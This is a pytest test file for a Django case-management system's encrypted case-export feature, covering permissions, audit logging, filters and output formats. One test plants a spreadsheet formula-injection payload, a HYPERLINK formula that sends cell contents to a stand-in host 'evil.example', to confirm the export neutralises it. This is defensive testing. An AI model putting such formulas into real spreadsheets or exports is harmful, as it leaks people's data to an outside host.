from __future__ import annotations

import csv
import io
from datetime import date, datetime
from typing import Any

import py7zr
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from py7zr.io import BytesIOFactory

from zhusan.accounts.models import RoleGrant
from zhusan.accounts.permissions import POLICIES, SEVERE_COMPARTMENTS, Capability, Role
from zhusan.audit.models import Action, AuditEvent
from zhusan.audit.services import Actor
from zhusan.core.models import DatasetMarker
from zhusan.operations.models import ManifestEntry, Movement, Operation
from zhusan.registry import services
from zhusan.registry.models import CaseAssignment, Person, Script, TimelineEntry
from zhusan.registry.services import NameInput
from zhusan.reporting.case_exports import (
    CaseExportError,
    ExportFilters,
    allowed_fields,
    case_export_create,
    catalogue,
)

from ..factories import UnitFactory, make_person, make_staff
from ..registry.helpers import login

PASSPHRASE = "seven blue camels at dawn"
URL = "/reports/cases/export/"


def open_archive(data: bytes, passphrase: str = PASSPHRASE) -> dict[str, bytes]:
    factory = BytesIOFactory(10**8)
    with py7zr.SevenZipFile(io.BytesIO(data), "r", password=passphrase) as archive:
        archive.extractall(factory=factory)
    return {name: product.read() for name, product in factory.products.items()}


def csv_rows(files: dict[str, bytes]) -> list[list[str]]:
    name = next(n for n in files if n.endswith(".csv"))
    return list(csv.reader(io.StringIO(files[name].decode("utf-8-sig"))))


def post(client: Any, **overrides: Any) -> Any:
    """The whole export as a user makes it: the form queues the job (the
    tests' immediate task backend prepares it at once), then its page's
    download form takes the passphrase. Answers the first refusal, or the
    archive."""
    passphrase = overrides.pop("passphrase", PASSPHRASE)
    confirm = overrides.pop("passphrase_confirm", passphrase)
    data = {"columns": ["case_number", "name", "sex"], "script": "primary", "fmt": "csv", **overrides}
    response = client.post(URL, data)
    if response.status_code != 302:
        return response
    job = response["Location"].rsplit("job=", 1)[1]
    return client.post(URL, {"job": job, "action": "download", "passphrase": passphrase, "passphrase_confirm": confirm})


def export_events() -> Any:
    return AuditEvent.objects.filter(action=Action.EXPORT, object_type="case_export")


@pytest.fixture
def alices_persons(alice):
    """Two persons alice manages (assigned to her by registering them) and one she does not."""
    aisha = make_person(alice, given="Aisha", family="Nurlanova")
    yusuf = make_person(alice, given="Yusuf", family="Nurlanov", sex="male", birth_year=2016)
    return [aisha, yusuf]


def test_the_archive_opens_only_with_the_passphrase(client, alice, alices_persons):
    response = post(login(client, alice))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/x-7z-compressed"
    assert response["Content-Disposition"].startswith('attachment; filename="zhusan-cases-')
    data = response.content
    with pytest.raises(py7zr.exceptions.PasswordRequired):
        py7zr.SevenZipFile(io.BytesIO(data), "r")  # even the list of file names is encrypted
    with pytest.raises(Exception):  # noqa: B017 - py7zr raises different errors for a wrong key
        open_archive(data, "a wrong passphrase, long enough")
    files = open_archive(data)
    assert sorted(n.rsplit(".", 1)[-1] for n in files) == ["csv", "txt"]
    assert b"Aisha" not in data and b"Nurlanova" not in data


def test_the_file_has_exactly_the_chosen_fields_of_in_scope_persons(client, alice, charlie, alices_persons):
    make_person(charlie, given="Zarina", family="Omarova")  # another organisation's case
    rows = csv_rows(open_archive(post(login(client, alice)).content))
    assert rows[0] == ["Case number", "Name", "Sex"]
    assert sorted(r[0] for r in rows[1:]) == sorted(p.case_number for p in alices_persons)
    assert {r[1] for r in rows[1:]} == {"Aisha Nurlanova", "Yusuf Nurlanov"}
    assert all(len(r) == 3 for r in rows)


def test_charlie_in_another_organisation_exports_none_of_alices_persons(client, charlie, alices_persons):
    rows = csv_rows(open_archive(post(login(client, charlie)).content))
    assert rows == [["Case number", "Name", "Sex"]]
    assert export_events().get().detail["count"] == 0


def test_a_person_alice_is_no_longer_assigned_to_is_not_exported(client, alice, alices_persons):
    CaseAssignment.objects.filter(person=alices_persons[0], user=alice).delete()
    rows = csv_rows(open_archive(post(login(client, alice)).content))
    assert [r[0] for r in rows[1:]] == [alices_persons[1].case_number]


def test_a_formula_typed_into_a_name_is_neutralised(client, alice):
    # The name validator refuses these today; records from before it may still hold them.
    for formula, family in (('=HYPERLINK("http://evil.example/?"&A1,"click")', "Doe"), ("@SUM(A1)", "Roe")):
        person = make_person(alice, given="Placeholder", family=family)
        person.names.update(given=formula)
    data = post(login(client, alice), fmt="xlsx").content
    files = open_archive(data)
    book = load_workbook(io.BytesIO(files[next(n for n in files if n.endswith(".xlsx"))]))
    names = [row[1] for row in book.active.iter_rows(min_row=2, values_only=True)]
    assert sorted(names) == sorted(['\'=HYPERLINK("http://evil.example/?"&A1,"click") Doe', "'@SUM(A1) Roe"])
    assert all(cell.data_type == "s" for row in book.active.iter_rows() for cell in row)  # no formula cell


def test_names_are_given_in_the_chosen_script(client, alice):
    person = make_person(
        alice,
        given="Aisha",
        family="Nurlanova",
        extra_names=[NameInput(script=Script.CYRILLIC, kind="legal", given="Айша", family="Нурланова")],
    )
    rows = csv_rows(open_archive(post(login(client, alice), script=Script.CYRILLIC).content))
    assert rows[1] == [person.case_number, "Айша Нурланова", "Female"]


def test_an_analyst_is_refused_and_the_refusal_audited(client, centre_unit, alices_persons):
    analyst = make_staff(Role.ANALYST, centre_unit, username="dana")
    analyst_client = login(client, analyst)
    assert analyst_client.get(URL).status_code == 403
    assert post(analyst_client).status_code == 403
    assert AuditEvent.objects.filter(action=Action.PERMISSION_DENIED, object_type="case_export").count() == 2
    assert not export_events().exists()


@pytest.mark.parametrize("role", [Role.TEACHER, Role.PSYCHOLOGIST, Role.SECURITY_LIAISON, Role.AUDITOR])
def test_roles_outside_case_management_cannot_export(client, centre_unit, role):
    user = make_staff(role, centre_unit)
    assert login(client, user).get(URL).status_code == 403


def test_only_programme_and_case_managers_hold_the_capability():
    holders = {role for role, pol in POLICIES.items() if Capability.EXPORT_CASES in pol.capabilities}
    assert holders == {Role.PROGRAMME_MANAGER, Role.CASE_MANAGER}


def test_no_field_of_a_severe_compartment_is_exportable():
    assert not {f.compartment for f in catalogue().values()} & SEVERE_COMPARTMENTS
    assert not any("risk" in code for code in catalogue())


def test_persons_seen_through_a_role_that_cannot_export_are_not_exported(client, alice, alices_persons):
    school = UnitFactory()
    RoleGrant.objects.create(user=alice, role=Role.TEACHER, organisation=school.organisation, unit=school)
    pupil = make_person(  # a child: a teacher's scope reaches only children
        make_staff(Role.CASE_MANAGER, school),
        given="Dina",
        family="Sarsenova",
        birth_year=timezone.localdate().year - 10,
    )
    alice_client = login(client, alice)
    assert pupil.case_number in alice_client.get("/persons/").content.decode()  # she sees the pupil as a teacher
    rows = csv_rows(open_archive(post(alice_client).content))
    assert pupil.case_number not in {r[0] for r in rows}
    assert len(rows) == 1 + len(alices_persons)


def test_a_field_outside_the_roles_compartments_is_refused_in_the_form(client, alice, alices_persons, monkeypatch):
    from zhusan.accounts import permissions
    from zhusan.accounts.permissions import CORE_CASE, Compartment, RolePolicy

    narrowed = RolePolicy(
        scope=permissions.Scope.OWN,
        read=frozenset({Compartment.IDENTITY}),
        capabilities=frozenset({Capability.EXPORT_CASES}),
    )
    monkeypatch.setitem(permissions.POLICIES, Role.CASE_MANAGER, narrowed)
    assert CORE_CASE  # the real policy is untouched outside this test
    response = post(login(client, alice), columns=["case_number", "household"])
    assert response.status_code == 400
    assert "You may not export “Household and role”: your role cannot read Family data." in response.content.decode()
    assert not export_events().exists()


def test_the_form_only_offers_fields_the_role_may_read(client, alice):
    body = login(client, alice).get(URL).content.decode()
    assert 'value="household"' in body and 'value="case_number"' in body
    assert "Health" not in body.split("<h2>")[1]  # no severe compartment group among the fields


def test_an_unknown_field_is_refused(client, alice, alices_persons):
    response = post(login(client, alice), columns=["case_number", "risk_score"])
    assert response.status_code == 400
    assert "risk_score" in response.content.decode()
    assert not export_events().exists()


def test_no_field_chosen_is_refused(client, alice, alices_persons):
    response = post(login(client, alice), columns=[])
    assert response.status_code == 400
    assert "Choose at least one field to export." in response.content.decode()
    assert not export_events().exists()


@pytest.mark.parametrize(
    ("passphrase", "confirm", "message"),
    [
        ("short one", "short one", "The passphrase must have at least 12 characters."),
        (PASSPHRASE, PASSPHRASE + "!", "The two passphrases do not match."),
    ],
)
def test_a_bad_passphrase_is_refused_and_nothing_exported(client, alice, alices_persons, passphrase, confirm, message):
    response = post(login(client, alice), passphrase=passphrase, passphrase_confirm=confirm)
    assert response.status_code == 400
    body = response.content.decode()
    assert message in body
    assert passphrase not in body  # never written back into the page
    assert not export_events().exists()


def test_the_export_is_one_audit_event_with_fields_filters_count_and_persons(client, alice, alices_persons):
    post(login(client, alice), stage="identified")
    event = export_events().get()
    assert event.actor_username == "alice"
    assert event.detail["fields"] == ["case_number", "name", "sex"]
    assert event.detail["filters"]["stage"] == "identified"
    assert event.detail["count"] == 2
    assert sorted(event.detail["persons"]) == sorted(str(p.uuid) for p in alices_persons)
    assert sorted(event.detail["case_numbers"]) == sorted(p.case_number for p in alices_persons)
    assert PASSPHRASE not in str(event.detail) and PASSPHRASE not in event.path
    assert not AuditEvent.objects.filter(action__in=[Action.LIST, Action.VIEW], actor_username="alice").exists()


def test_the_readme_states_who_what_how_many_and_synthetic_data(client, alice, alices_persons):
    DatasetMarker.objects.create(is_synthetic=True, description="demo")
    files = open_archive(post(login(client, alice), columns=["case_number", "household"]).content)
    text = files["README.txt"].decode()
    assert "SYNTHETIC DATA" in text
    assert "Exported by: " in text and "(alice)" in text
    assert "Records: 2" in text
    assert "household: Household and role [Family]" in text
    assert "lifecycle stage: any" in text
    assert "Handling notice" in text
    assert f"Audit event: no. {export_events().get().seq}" in text


def test_filters_narrow_the_records(client, alice, alices_persons):
    Person.objects.filter(pk=alices_persons[1].pk).update(stage="verified")
    rows = csv_rows(open_archive(post(login(client, alice), stage="verified").content))
    assert [r[0] for r in rows[1:]] == [alices_persons[1].case_number]


def test_the_service_refuses_a_short_passphrase_before_reading_anything(alice, alices_persons):
    with pytest.raises(CaseExportError):
        case_export_create(
            actor=Actor.system("tests", user=alice),
            fields=["case_number"],
            filters=ExportFilters(),
            fmt="csv",
            passphrase="too short",
        )
    assert not export_events().exists()


def test_every_catalogue_field_exports_for_a_programme_manager(client, centre_unit, alices_persons):
    manager = make_staff(Role.PROGRAMME_MANAGER, centre_unit, username="erlan")
    codes = [f.code for f in allowed_fields(manager)]
    assert codes == list(catalogue())  # a programme manager reads every exportable compartment
    rows = csv_rows(open_archive(post(login(client, manager), columns=codes).content))
    assert len(rows) == 3 and all(len(r) == len(codes) for r in rows)


def _arrived_with(person: Person, code: str, day: str) -> None:
    operation, _ = Operation.objects.get_or_create(code=code, defaults={"name": code, "country": "KZ"})
    movement = Movement.objects.create(operation=operation, label="Flight 1", kind="flight", destination="Aktau")
    ManifestEntry.objects.create(movement=movement, person=person, status="arrived", arrived_at=_at(day))
    TimelineEntry.objects.create(person=person, from_stage="cleared", to_stage="repatriated", at=_at(day), reason="t")


def _at(day: str) -> datetime:
    return timezone.make_aware(datetime.fromisoformat(day))


def test_the_operation_and_period_filters_select_like_the_dashboard(client, alice, alices_persons):
    aisha, yusuf = alices_persons
    _arrived_with(aisha, "Zhusan-2", "2019-05-07")
    _arrived_with(yusuf, "Zhusan-3", "2019-05-30")
    TimelineEntry.objects.filter(person=yusuf, to_stage="identified").update(at=_at("2018-11-01"))
    alice_client = login(client, alice)
    columns = ["case_number", "operation", "arrived_on"]
    rows = csv_rows(open_archive(post(alice_client, columns=columns, operation="Zhusan-2").content))
    assert rows[1:] == [[aisha.case_number, "Zhusan-2", "2019-05-07"]]
    rows = csv_rows(open_archive(post(alice_client, columns=columns, start="2018-10-01", end="2018-12-31").content))
    assert rows[1:] == [[yusuf.case_number, "Zhusan-3", "2019-05-30"]]


def test_an_inverted_period_is_refused(client, alice, alices_persons):
    response = post(login(client, alice), start="2020-01-01", end="2019-01-01")
    assert response.status_code == 400
    assert "The start of the period must not be after its end." in response.content.decode()
    assert not export_events().exists()


def test_household_documents_and_birth_date_precision_are_written_as_recorded(client, alice, alices_persons):
    aisha, yusuf = alices_persons
    actor = Actor.system("tests", user=alice)
    services.household_create(actor=actor, label="Nurlanov family", members=[(aisha, "carer")])
    Person.objects.filter(pk=yusuf.pk).update(
        birth_precision="estimated", birth_year=None, stated_age=7, stated_age_on=date(2020, 1, 1)
    )
    columns = ["case_number", "birth_date", "birth_precision", "household"]
    rows = csv_rows(open_archive(post(login(client, alice), columns=columns).content))
    by_case = {r[0]: r for r in rows[1:]}
    assert by_case[aisha.case_number][1:] == ["1995", "Year only", "Nurlanov family (Carer)"]
    assert by_case[yusuf.case_number][1:] == ["aged 7 on 2020-01-01", "Estimated from a stated age", ""]


def test_the_number_of_queries_does_not_grow_with_the_persons(alice):
    codes = [f.code for f in allowed_fields(alice)]

    def export() -> int:
        with CaptureQueriesContext(connection) as queries:
            case_export_create(
                actor=Actor.system("tests", user=alice),
                fields=codes,
                filters=ExportFilters(),
                fmt="xlsx",
                passphrase=PASSPHRASE,
            )
        return len(queries)

    make_person(alice)
    few = export()
    for _ in range(5):
        make_person(alice)
    assert export() == few


def test_the_navigation_links_the_export_only_for_roles_that_may_use_it(client, alice, bob):
    assert f'href="{URL}"' in login(client, alice).get("/persons/").content.decode()
    client.logout()
    assert f'href="{URL}"' not in login(client, bob).get("/persons/").content.decode()
